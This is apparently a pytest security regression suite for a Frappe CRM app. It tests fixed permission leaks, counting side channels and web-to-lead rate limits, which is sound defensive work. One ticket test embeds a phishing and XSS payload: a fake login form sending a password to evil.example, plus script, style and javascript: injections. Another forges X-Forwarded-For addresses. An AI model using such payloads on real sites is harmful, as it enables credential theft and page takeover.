"""Issue 13's findings, each tried as the attacker did (each test failed on the code before the fix)."""

from __future__ import annotations

import json

import frappe
import pytest
from frappe.desk.form.assign_to import add as assign
from frappe.desk.query_report import run as run_report
from frappe.handler import execute_cmd
from frappe.utils import add_months, now_datetime, nowdate

from crm_suite.api.dashboards import sla_breaches_today
from crm_suite.crm import money, web_to_lead
from crm_suite.marketing.segments import preview_count
from crm_suite.service import portal
from tests.integration.factories import (
	make_lead,
	make_opportunity,
	make_ticket,
	make_user,
	make_website_user,
	unique,
)
from tests.integration.security.world import committed_world, http_request, link_contact


def unassign(doctype: str, name: str) -> None:
	"""An assignment shares the record with the assignee: start from none."""
	frappe.db.delete("ToDo", {"reference_type": doctype, "reference_name": name})
	frappe.db.delete("DocShare", {"share_doctype": doctype, "share_name": name})
	frappe.db.set_value(doctype, name, "_assign", None, update_modified=False)


@pytest.fixture(scope="module")
def shared_world(site):
	"""The world, built and committed once for the module: no test changes its records, and each test's
	own writes are still rolled back by `rollback_after_test`."""
	with committed_world() as world:
		yield world


@pytest.fixture
def world(shared_world):
	return frappe._dict(shared_world)


def call(cmd: str, method: str = "GET", **args):
	"""A whitelisted method through Frappe's handler (override_whitelisted_methods included)."""
	http_request(method)
	frappe.local.form_dict = frappe._dict(args, cmd=cmd)
	try:
		return execute_cmd(cmd)
	finally:
		frappe.local.request = None
		frappe.local.form_dict = frappe._dict()


# 1 ------------------------------------------------------------------ portal identity
def test_a_website_user_cannot_link_their_contact_to_another_customer(world):
	frappe.set_user(world.portal)
	contact = {
		"doctype": "Contact",
		"first_name": "Eve",
		"email_ids": [{"email_id": world.portal_email, "is_primary": 1}],
		"links": [{"link_doctype": "Customer", "link_name": world.b}],
	}
	with pytest.raises(frappe.PermissionError):
		frappe.get_doc(contact).insert()
	# their own contact, without links, is fine; adding a customer to it later is not
	own = frappe.get_doc({**contact, "links": []}).insert()
	own.append("links", {"link_doctype": "Customer", "link_name": world.b})
	with pytest.raises(frappe.PermissionError):
		own.save()
	frappe.db.rollback()  # (the failed save's half-written rows)


def test_a_contact_a_website_user_made_gives_them_no_customer(world):
	"""Data from before the guard: a Contact the attacker made, linking customer B, is not trusted."""
	ticket_b = make_ticket(customer=world.b, raised_by="someone-at-b@example.com").name
	forged = link_contact(frappe._dict(name=world.portal, email=world.portal_email), world.b)
	frappe.db.set_value("Contact", forged.name, "owner", world.portal, update_modified=False)
	frappe.local.cache.pop(("crm_portal_customers", world.portal), None)
	assert portal.portal_customers(world.portal) == [world.a]
	frappe.set_user(world.portal)
	assert ticket_b not in frappe.get_list("Ticket", pluck="name")
	with pytest.raises(frappe.PermissionError):
		portal.get_ticket(ticket_b)
	with pytest.raises(frappe.PermissionError):
		portal.reply(ticket_b, "I am customer B now")


def test_staff_still_link_contacts_and_the_linked_user_sees_their_customer(world):
	user = make_website_user()
	frappe.set_user(world.manager)
	link_contact(user, world.a)
	frappe.set_user("Administrator")
	assert portal.portal_customers(user.name) == [world.a]


# 2 ------------------------------------------------------------------ segment preview
def test_segment_preview_counts_only_readable_leads_and_spells_nothing(world):
	secret = f"zq{unique()}".lower()
	others = [make_lead(email_id=f"{secret}{i}@example.com").name for i in range(3)]
	frappe.db.delete("ToDo", {"reference_type": "Lead", "reference_name": ["in", others]})
	frappe.db.sql("update `tabLead` set _assign = null where name in %s", [others])
	frappe.set_user(world.seller)
	assert not frappe.get_list("Lead", filters={"name": ["in", others]})
	like = [{"fieldname": "email_id", "operator": "like", "value": f"{secret}%"}]
	assert preview_count("Lead", conditions=json.dumps(like))["count"] == 0
	static = [{"member": n} for n in others]
	assert preview_count("Lead", segment_type="Static List", members=json.dumps(static))["count"] == 0
	mine = make_lead(email_id=f"{secret}-mine@example.com")
	assert preview_count("Lead", conditions=json.dumps(like))["count"] == 1
	assert mine.owner == world.seller


def test_segment_conditions_may_use_only_fields_the_caller_may_read(world):
	"""A field behind a permission level the Sales User lacks cannot be spelled out by counting."""
	frappe.make_property_setter(
		{"doctype": "Lead", "fieldname": "mobile_no", "property": "permlevel", "value": "1"},
		validate_fields_for_doctype=False,
	)
	frappe.clear_cache(doctype="Lead")
	frappe.set_user(world.seller)
	hidden = [{"fieldname": "mobile_no", "operator": "like", "value": "+49%"}]
	with pytest.raises(frappe.PermissionError):
		preview_count("Lead", conditions=json.dumps(hidden))
	from crm_suite.marketing.segments import get_filterable_fields

	assert "mobile_no" not in [f["value"] for f in get_filterable_fields("Lead")]
	frappe.set_user("Administrator")
	frappe.db.rollback()  # the property setter goes, then the Lead meta cached with it
	frappe.clear_cache(doctype="Lead")


# 3 ------------------------------------------------------------------ reports and User Permissions
def test_reports_count_only_what_a_user_permission_leaves(world):
	campaign = world.campaign
	frappe.set_user("Administrator")
	close = add_months(nowdate(), 1)
	mine = make_opportunity(customer=world.a, amount=100, campaign=campaign, expected_close_date=close)
	theirs = make_opportunity(customer=world.b, amount=7777, campaign=campaign, expected_close_date=close)
	for opp in (mine, theirs):
		frappe.db.set_value("Opportunity", opp.name, "opportunity_owner", "Administrator")
	for customer in (world.a, world.b):
		t = make_ticket(customer=customer, raised_by=f"{unique()}@example.com")
		frappe.db.set_value("Ticket", t.name, "agreement_status", "Fulfilled")
		unassign("Ticket", t.name)  # the round robin may have given it to the manager (a Support Agent)
	frappe.set_user(world.manager)
	assert frappe.get_list("Opportunity", filters={"campaign": campaign}, pluck="name") == [mine.name]

	def rows(report, **filters):
		return run_report(report, filters=json.dumps(filters), ignore_prepared_report=True)["result"]

	forecast = rows("Pipeline Forecast", campaign=campaign)
	assert sum(r["opportunities"] for r in forecast) == 1
	assert sum(r["amount"] for r in forecast) == 100
	effectiveness = rows("Lead Source Effectiveness", campaign=campaign)
	assert sum(r.get("opportunities") or 0 for r in effectiveness if isinstance(r, dict)) <= 1
	assert not rows("SLA Compliance", customer=world.b)
	assert rows("SLA Compliance", customer=world.a)


# 4 ------------------------------------------------------------------ static segment members
def test_a_sales_user_does_not_read_a_static_segments_members(world):
	leads = [make_lead().name for _ in range(2)]
	segment = frappe.get_doc(
		{
			"doctype": "Segment",
			"segment_name": unique("Static "),
			"based_on": "Lead",
			"segment_type": "Static List",
			"members": [{"member": n} for n in leads],
		}
	).insert()
	frappe.set_user(world.seller)
	seen = frappe.get_doc("Segment", segment.name)
	seen.apply_fieldlevel_read_permissions()
	assert not seen.get("members") and not seen.get("member_count")
	from frappe.client import get

	assert not get("Segment", segment.name).get("members")
	marketing = make_user("Marketing Manager")
	frappe.set_user(marketing.name)
	assert len(get("Segment", segment.name)["members"]) == 2


# 5 ------------------------------------------------------------------ portal rendering, priority
def test_the_ticket_page_renders_no_forms_styles_or_scripts_and_priority_is_the_default(world):
	frappe.set_user(world.portal)
	ticket = frappe.get_doc(
		{
			"doctype": "Ticket",
			"subject": "Invoice question",
			"priority": "Urgent",
			"description": '<p>Hello <b>team</b></p><form action="https://evil.example/login">'
			'<input name="password"><button>Log in again</button></form>'
			"<style>body{display:none}</style><script>alert(1)</script>"
			'<a href="javascript:alert(2)">x</a><div style="position:fixed">over</div>',
		}
	).insert()
	assert ticket.priority == "Medium"
	frappe.local.form_dict = frappe._dict(name=ticket.name)
	from frappe.website.serve import get_response_content

	http_request("GET", path="/support/ticket", query=f"name={ticket.name}")
	try:
		html = get_response_content("support/ticket")
	finally:
		frappe.local.request = None
	assert "Hello <b>team</b>" in html
	body = html.split('class="ticket-description', 1)[1].split("</div>", 1)[0]
	for bad in ("<form", "<input", "<style", "<script", "javascript:", "style=", "Log in again"):
		assert bad not in body


# 6 ------------------------------------------------------------------ SLA breaches card
def test_the_sla_breaches_card_counts_only_the_callers_tickets(world):
	for customer in (world.a, world.b):
		t = make_ticket(customer=customer, raised_by=f"{unique()}@example.com")
		frappe.db.set_value("Ticket", t.name, {"agreement_status": "Failed", "response_by": now_datetime()})
		unassign("Ticket", t.name)
	everyone = sla_breaches_today()["value"]
	frappe.set_user(world.portal)
	assert sla_breaches_today()["value"] == 1
	assert everyone >= 2
	frappe.set_user(world.manager)  # limited to customer A: the other breached tickets are not theirs
	breached_of_a = frappe.get_list("Ticket", filters={"agreement_status": "Failed"}, pluck="name")
	assert sla_breaches_today()["value"] == len(breached_of_a) == 1


# 7 ------------------------------------------------------------------ web-to-lead limits
def test_web_to_lead_limits_a_forged_client_address_does_not_lift(world, monkeypatch):
	frappe.set_user("Guest")
	email = f"{unique('flood-')}@example.com"
	form = {"first_name": "Flo", "email": email, "message": "hi"}
	for _ in range(web_to_lead.PER_ADDRESS_LIMIT):
		http_request("POST", ip=unique("forged-"))  # a new X-Forwarded-For each time
		web_to_lead.capture_lead(**form)
	http_request("POST", ip=unique("forged-"))
	with pytest.raises(frappe.RateLimitExceededError):
		web_to_lead.capture_lead(**{**form, "email": email.upper()})
	# the honeypot still answers as usual and counts nowhere
	assert web_to_lead.capture_lead(**form, website_url="http://spam")["status"] == "received"
	monkeypatch.setattr(web_to_lead, "site_limit", lambda: 0)  # the site's window is full
	http_request("POST", ip=unique("forged-"))
	with pytest.raises(frappe.RateLimitExceededError):
		web_to_lead.capture_lead(**{**form, "email": f"{unique('other-')}@example.com"})
	frappe.local.request = None


# 8 ------------------------------------------------------------------ Frappe's generic counts
def test_frappes_generic_counts_answer_only_from_readable_records(world):
	lead = make_lead()
	frappe.db.delete("ToDo", {"reference_type": "Lead", "reference_name": lead.name})
	frappe.db.set_value("Lead", lead.name, "_assign", None)
	assign({"doctype": "Lead", "name": lead.name, "assign_to": ["Administrator"]})
	frappe.set_user(world.portal)
	with pytest.raises(frappe.PermissionError):
		call("frappe.client.get_count", doctype="Lead")
	frappe.set_user(world.seller)
	readable = len(frappe.get_list("Lead", pluck="name", limit_page_length=0))
	assert call("frappe.client.get_count", doctype="Lead") == readable
	assert call("frappe.client.get_count", doctype="Lead", filters={"name": lead.name}) == 0
	groups = call(
		"frappe.desk.listview.get_group_by_count",
		method="POST",
		doctype="Lead",
		current_filters="[]",
		field="assigned_to",
	)
	assert "Administrator" not in [g["name"] for g in groups]


@pytest.mark.parametrize(
	"args",
	[
		{"doctype": "No Such Doctype"},
		{"doctype": "Lead", "filters": "not json"},
		{"doctype": "Lead", "filters": "[1, 2]"},
		{"doctype": "Lead", "filters": '{"no_such_field": 1}'},
		{"doctype": "Lead", "filters": "42"},
	],
)
def test_the_generic_count_answers_bad_input_with_a_clear_error(args):
	with pytest.raises(frappe.ValidationError):
		call("frappe.client.get_count", **args)


@pytest.mark.parametrize(
	"args",
	[
		{"doctype": "Lead", "current_filters": "[]", "field": "no_such_field"},
		{"doctype": "Lead", "current_filters": "{oops", "field": "status"},
		{"doctype": "Lead", "current_filters": '[["Lead", "nope", "=", 1]]', "field": "assigned_to"},
	],
)
def test_the_group_by_count_answers_bad_input_with_a_clear_error(args):
	with pytest.raises(frappe.ValidationError):
		call("frappe.desk.listview.get_group_by_count", method="POST", **args)


# Integration ---------------------------------------------------------- the money reports' gap note
@pytest.mark.parametrize("caller", ["seller", "manager"])
def test_the_missing_rate_note_counts_only_what_the_caller_may_read(world, caller):
	"""The money branch's note under the totals ("Not in these totals, for want of an exchange rate…:
	N × Opportunity in BAM") counted every unconverted document of the site: an own-records Sales User or
	a Sales Manager limited to customer A learnt how many of the others' opportunities there are."""
	user = world[caller]
	frappe.set_user("Administrator")
	to = money.reporting_currency()
	if not frappe.db.exists("Exchange Rate", {"from_currency": "BAM", "to_currency": to}):
		frappe.get_doc(
			{
				"doctype": "Exchange Rate",
				"from_currency": "BAM",
				"to_currency": to,
				"date": add_months(nowdate(), -12),
				"rate": 0.5,
			}
		).insert()
	mine = make_opportunity(customer=world.a, amount=10, currency="BAM")
	theirs = [make_opportunity(customer=world.b, amount=20, currency="BAM") for _ in range(2)]
	frappe.db.set_value("Opportunity", mine.name, "opportunity_owner", user)
	for opp in (mine, *theirs):
		frappe.db.set_value("Opportunity", opp.name, {"base_amount": 0, "conversion_rate": 0})
	for opp in theirs:
		frappe.db.set_value("Opportunity", opp.name, "opportunity_owner", "Administrator")
		unassign("Opportunity", opp.name)
	frappe.set_user(user)
	readable = frappe.get_list("Opportunity", filters={"conversion_rate": 0, "currency": "BAM"}, pluck="name")
	assert mine.name in readable and not set(readable) & {t.name for t in theirs}
	message = run_report("Pipeline Forecast", filters="{}", ignore_prepared_report=True)["message"]
	assert f"{len(readable)} × Opportunity in BAM" in message


# Integration ---------------------------------------------------------- channel consents
@pytest.mark.parametrize("caller", ["seller", "manager"])
def test_a_channel_consent_shows_no_number_of_a_lead_the_caller_may_not_read(world, caller):
	"""The channels branch's Channel Consent (number, channel, the lead it came from) was readable by every
	Sales User: an own-records Sales User or a Sales Manager limited to customer A listed the phone numbers
	of the leads they may not open."""
	from crm_suite.crm.messaging import set_consent

	user = world[caller]
	frappe.set_user("Administrator")
	mine, theirs = make_lead(customer=world.a), make_lead(customer=world.b)
	frappe.db.set_value("Lead", mine.name, "lead_owner", user)
	frappe.db.set_value("Lead", theirs.name, "lead_owner", "Administrator")
	unassign("Lead", theirs.name)
	number = lambda: "+39333" + str(int(unique("")[:6], 16) % 10**7).zfill(7)  # noqa: E731
	consent = {
		"mine": set_consent(number(), "SMS", "Opted Out", "test", {"lead": mine.name}),
		"theirs": set_consent(number(), "SMS", "Opted Out", "test", {"lead": theirs.name}),
		"no lead": set_consent(number(), "WhatsApp", "Opted In", "test"),
	}
	frappe.set_user(user)
	assert frappe.has_permission("Lead", "read", doc=mine.name)
	assert not frappe.has_permission("Lead", "read", doc=theirs.name)
	listed = frappe.get_list(
		"Channel Consent", filters={"name": ["in", list(consent.values())]}, pluck="name"
	)
	assert sorted(listed) == sorted([consent["mine"], consent["no lead"]])
	assert frappe.has_permission("Channel Consent", "read", doc=consent["mine"])
	assert not frappe.has_permission("Channel Consent", "read", doc=consent["theirs"])
	with pytest.raises(frappe.PermissionError):
		call("frappe.client.get", doctype="Channel Consent", name=consent["theirs"])
	assert (
		call("frappe.client.get_count", doctype="Channel Consent", filters=json.dumps({"lead": theirs.name}))
		== 0
	)
	frappe.set_user(make_user("Marketing Manager").name)  # who keeps the consents reads every row
	listed = frappe.get_list(
		"Channel Consent", filters={"name": ["in", list(consent.values())]}, pluck="name"
	)
	assert sorted(listed) == sorted(consent.values())
